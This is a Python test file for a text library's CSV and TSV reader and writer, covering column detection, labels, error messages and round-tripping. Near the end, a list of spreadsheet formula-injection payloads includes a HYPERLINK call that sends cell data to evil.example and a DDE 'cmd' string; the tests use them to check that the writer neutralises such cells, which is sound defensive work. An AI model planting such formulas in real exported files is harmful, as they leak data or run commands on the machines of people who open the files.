"""Tables with a header: CSV and TSV."""

import csv
import io
import json
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from growth import grows_as
from handful.errors import FormatError
from handful.text import Document, Span, read, stream, write

from .strategies import modest, read_bytes, stream_bytes, written

REVIEWS = """id,date,body,stars
7,2024-05-01,"The slugs, again, ate ""everything"".
Even the box.",2
8,2024-05-02,Soft soap helped.,4
"""


def rows_of(data, separator=","):
    return list(csv.DictReader(io.StringIO(data.decode(), newline=""), delimiter=separator))


def test_a_table_is_recognised_and_the_column_can_be_named():
    for text in (REVIEWS, REVIEWS.replace("\n", "\r\n"), "\ufeff" + REVIEWS):
        first, second = stream_bytes(text, text_field="body")
        assert first.text == 'The slugs, again, ate "everything".\nEven the box.'
        assert (first.id, first.text_field, len(first.sentences)) == ("7", "body", 2)
        assert second.meta == {"id": "8", "date": "2024-05-02", "body": "Soft soap helped.", "stars": "4"}


@pytest.mark.parametrize("unlabelled", [True, False])
def test_a_table_is_never_plain_text_in_silence(unlabelled):
    with pytest.raises(FormatError) as caught:
        list(stream_bytes(REVIEWS, unlabelled=unlabelled))
    assert "this is a table, and it is not clear which column holds the text; the columns are id, date, body" in str(
        caught.value
    )
    assert str(caught.value).endswith("for example text_field='body', or format='text' if this is plain text")
    assert "--text-field body, or --from text" in caught.value.for_shell
    assert read_bytes(REVIEWS, "text").report.format == "text"


@pytest.mark.parametrize(
    "text",
    [
        "id,text\n1,The slugs came back.\n",
        "id;text\n1;The slugs came back, and ate.\n",
        "id, text\n1, The slugs came back.\n",
        "Text,Author\nThe slugs came back.,Ann\n",
        ",text\n0,The slugs came back.\n1,They left.\n",
        '"id","text"\n"1","The slugs came back."\n',
        "id\ttext\n1\tThe slugs came back.\n",
        "id,text\n" + '1,"The slugs, of all\nplaces"\n' * 20 + "broken\n" + "2,They left.\n" * 5,
    ],
)
def test_tables_of_many_kinds(text):
    report = read_bytes(text, malformed="skip").report
    assert report.format == ("tsv" if "\t" in text else "csv")
    assert report.n_skipped == ("broken" in text)


@pytest.mark.parametrize(
    "text",
    [
        "Slugs, snails and aphids.\nSpray, wait and look.\n",
        "Roses are red,\nViolets are blue,\n",
        "Dear Ann,\nthe slugs are back.\n",
        "12,50\n13,20\n",
        "Well, well\nYes, well\nNo, well\n",
        "One line, no more\n",
        "The slugs came\tat night\nand left\n",
    ],
)
def test_what_is_no_table(text):
    assert read_bytes(text).report.format == "text"


@pytest.mark.parametrize("name", ["a.csv", "a.CSV.gz", "b.tsv"])
def test_the_name_of_a_file_says_that_it_is_a_table(tmp_path, name):
    separator = "\t" if name == "b.tsv" else ","
    path = tmp_path / name
    write([Document.of(f"Slugs{separator} snails and so on."), Document.of("They left.")], path, "text")
    with pytest.raises(FormatError, match=f"{name}: this is a table, and it is not clear which column holds the text"):
        read(path)
    assert read(path, "text").report.format == "text"


def test_one_column_is_the_text(tmp_path):
    (tmp_path / "notes.csv").write_text('notes\nThe slugs came.\n"Then, they left."\n')
    corpus = read(tmp_path / "notes.csv")
    assert [sentence.text for sentence in corpus] == ["The slugs came.", "Then, they left."]


@pytest.mark.parametrize("column", ["entities", "spans", "label", "labels"])
def test_labels_are_json_in_a_cell(column):
    cell = json.dumps([[4, 9, "PEST"]]).replace('"', '""')
    text = f'text,{column}\nThe slugs left.,"{cell}"\nNothing here.,[]\nNobody looked.,\n'
    one, two, three = read_bytes(text)
    assert (one.spans, two.spans, three.spans) == ((Span(1, 2, "PEST"),), (), None)


def test_the_column_of_labels_can_be_named():
    text = 'text,marks,label\nThe slugs left.,"[[4, 9, ""PEST""]]",negative\nThey left.,,positive\n'
    first, second = stream_bytes(text, label_field="marks")
    assert [span for _, _, span in first.mentions()] == [Span(1, 2, "PEST")]
    assert (first.meta["label"], second.is_unlabelled) == ("negative", True)
    assert all(document.is_unlabelled for document in stream_bytes(text))  # its label is a class
    with pytest.raises(FormatError, match=r":2: the labels in the column 'label' are 'negative', expected a JSON list"):
        read_bytes(text, label_field="label")
    with pytest.raises(FormatError, match=r":2: there is no column 'tags' for labels; the columns are text, marks"):
        read_bytes(text, label_field="tags")
    with pytest.raises(FormatError, match=r":2: there are labels in the columns spans and label; say which"):
        read_bytes('text,spans,label\na,"[]","[]"\n')


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("id,text\n1,a\n2\n", ":3: found 1 cell in .*, expected 2 as in the header"),
        ('id,text\n1,"a\nb"\n2,c,d\n', ":4: found 3 cells"),
        ('id,text\n1,"a"b"\n', ":2: the row is damaged"),
        ('id,text\n1,"a\n', ":2: the row is damaged .unexpected end of data"),
        ("id,text\n1,\n", ":2: there is no word in the text ''"),
        ("id,id,text\n1,2,a\n", ":1: two columns are called 'id'"),
        ("id,text\n1,a\n", "this is a table, and it has no column 'body'; the columns are id, text"),
    ],
)
def test_malformed_tables_say_where(text, message):
    with pytest.raises(FormatError, match=message):
        read_bytes(text, "csv", text_field="body" if "'body'" in message else None)


def test_a_cell_may_be_long():
    text = "id,text\n1," + "word " * 100_000 + "\n2,b\n"
    assert [len(sentence.words) for sentence in read_bytes(text)] == [100_000, 1]


def test_quotes_in_a_table_with_tabs():
    quoted = 'id\ttext\n1\t"a ""b"" c"\n2\t"d\te"\n'
    assert [document.text for document in stream_bytes(quoted)] == ['a "b" c', "d\te"]
    plain = 'id\ttext\n1\t"Slugs ate it," she said.\n2\t5" pots\n'
    assert [document.text for document in stream_bytes(plain)] == ['"Slugs ate it," she said.', '5" pots']


@pytest.mark.parametrize(("format", "separator"), [("csv", ","), ("tsv", "\t")])
def test_columns_keep_their_order_and_mentions_are_added(format, separator):
    with stream_bytes(REVIEWS, text_field="body") as documents:
        data = written(documents, format)
    assert data.decode().startswith(separator.join(["id", "date", "body", "stars", "entities"]) + "\n")
    rows = rows_of(data, separator)
    assert [{**row, "entities": None} for row in rows] == [
        {**row, "entities": None} for row in rows_of(REVIEWS.encode())
    ]
    one = Document.of("Ekeus left.", id=4)
    one = one.with_sentences([replace(one.sentences[0], spans=(Span(0, 1, "PER", 0.5),))])
    (row,) = rows_of(written([one], format), separator)
    assert json.loads(row.pop("entities")) == [
        {"entity_group": "PER", "score": 0.5, "word": "Ekeus", "start": 0, "end": 5}
    ]
    assert row == {"id": "4", "text": "Ekeus left."}


def test_what_a_table_cannot_hold_is_said():
    documents = [Document.of("a\r\nb", id=1), Document.of("c", id=2, meta={"page": 3, "entities": "mine"})]
    report = write(documents, file := io.BytesIO(), "csv")
    assert [row["text"] for row in rows_of(file.getvalue())] == ["a \nb", "c"]
    assert report.notes == {
        "carriage returns were written as spaces": 1,
        "cells were not written: the format has another use for their column": 1,
        "cells were not written: the first document has no such field": 1,
    }


def test_json_can_have_the_text_in_another_field():
    record = {"id": 1, "title": "Slugs", "body": "The slugs left.", "marks": [[4, 9, "PEST"]]}
    text = json.dumps(record)
    with pytest.raises(FormatError, match=r":1: the record has no text: found .* text_field='body'"):
        read_bytes(text)
    with pytest.raises(FormatError, match=r":1: the record has no field 'content': found .* for example"):
        read_bytes(text, text_field="content")
    (plain,) = stream_bytes(text, text_field="body")
    assert (plain.text, plain.is_unlabelled) == (record["body"], True)
    assert json.loads(written([plain], "jsonl")) == record
    (document,) = stream_bytes(text, text_field="body", label_field="marks")
    assert [span for _, _, span in document.mentions()] == [Span(1, 2, "PEST")]
    back = json.loads(written([document], "jsonl"))
    assert (back["body"], back["title"], back["entities"][0]["word"]) == (record["body"], "Slugs", "slugs")
    prodigy = json.loads(written([document], "prodigy"))
    assert (prodigy["text"], "body" in prodigy) == (record["body"], False)
    with pytest.raises(FormatError, match="the record has no field 'labels' for its labels"):
        read_bytes(text, text_field="body", label_field="labels")


def test_words_and_tags_can_be_in_other_fields():
    record = json.dumps({"words": ["Ekeus", "left"], "iob": ["B-PER", "O"]})
    (sentence,) = read_bytes(record, text_field="words", label_field="iob")
    assert sentence.spans == (Span(0, 1, "PER"),)
    with pytest.raises(FormatError, match="no field 'bio' for its labels"):
        read_bytes(record, text_field="words", label_field="bio")


cells = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\r"), max_size=12)


@pytest.mark.parametrize("format", ["csv", "tsv"])
@given(st.lists(st.tuples(cells, cells, cells), max_size=4))
@modest
def test_any_cells_come_back(format, rows):
    documents = [Document(text, (), meta={"a": a, "text": text, "b": b}) for a, text, b in rows]
    data = written(documents, format)
    with stream_bytes(data, format, unlabelled=True) as found:
        back = list(found)
    assert [(one.meta["a"], one.text, one.meta["b"]) for one in back] == rows


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "+A.B(1)",
    "'=x",
    "''=x",
]


@pytest.mark.parametrize("format", ["csv", "tsv"])
@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_runs_no_cell(format, text):
    documents = [Document(text, (), meta={"a": text, "text": text})]
    data = written(documents, format)
    separator = "\t" if format == "tsv" else ","
    assert [one for row in rows_of(data, separator) for one in list(row.values())[:2]] == [f"'{text}"] * 2
    with stream_bytes(data, format, unlabelled=True) as found:
        assert [(one.text, one.meta["a"]) for one in found] == [(text, text)]
    report = write(documents, io.BytesIO(), format)
    assert "2 cells that a spreadsheet would run have a ' before them" in report.handled()


@pytest.mark.parametrize("text", ["- Slugs (many) again", "-5 degrees", "@anna look", "+ more", "'tis", "'- so", "a=b"])
def test_other_cells_are_as_they_are(text):
    data = written([Document(text, (), meta={"text": text})], "csv")
    assert [row["text"] for row in rows_of(data, ",")] == [text]


@pytest.mark.parametrize("piece", ["'", "=", "-a", "|", "a(", "+ "])
def test_formulas_are_found_in_linear_time(piece):
    documents = lambda n: [Document(piece * n, (), meta={"text": piece * n})]  # noqa: E731
    assert grows_as(lambda given: written(given, "csv"), documents, 2000) < 1.5


def test_a_stream_of_a_large_table(tmp_path):
    with open(tmp_path / "large.csv", "w", newline="") as file:
        table = csv.writer(file)
        table.writerow(["id", "text"])
        table.writerows([i, f'Word {i}, "quoted",\nof many.'] for i in range(5000))
    with stream(tmp_path / "large.csv") as documents:
        assert [document.id for document in documents] == [str(i) for i in range(5000)]
